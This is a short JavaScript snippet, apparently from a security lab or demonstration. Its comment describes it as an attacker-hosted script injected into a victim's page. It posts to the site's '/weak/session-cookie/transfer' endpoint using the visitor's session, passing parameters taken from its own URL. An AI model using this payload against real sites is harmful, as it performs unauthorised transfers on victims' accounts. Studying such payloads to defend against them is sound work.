// A script of the attacker's host that the victim's page was made to load. It acts as the visitor.
const { search } = new URL(document.currentScript.src);
fetch(`${location.origin}/weak/session-cookie/transfer${search}`, { method: "POST" });
